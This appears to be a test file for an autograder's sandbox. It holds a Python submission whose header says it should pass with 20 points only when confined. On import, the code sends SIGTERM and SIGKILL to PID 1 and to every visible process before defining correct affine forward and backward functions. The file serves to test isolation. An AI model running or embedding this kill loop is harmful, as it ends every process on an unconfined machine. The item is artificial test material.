# A affine: kills its parent and every process that it can see, then answers rightly. expect: passed, 20 points; only confined; unshown it would end every process of this machine
import os
import signal

if os.getppid() == 1:  # never outside a pid namespace of its own
    for number in (signal.SIGTERM, signal.SIGKILL):
        for pid in (1, -1):
            try:
                os.kill(pid, number)
            except OSError:
                pass


def affine_forward(x, w, b):
    return x.reshape(len(x), -1) @ w + b, (x, w)


def affine_backward(dout, cache):
    x, w = cache
    return (dout @ w.T).reshape(x.shape), x.reshape(len(x), -1).T @ dout, dout.sum(axis=0)
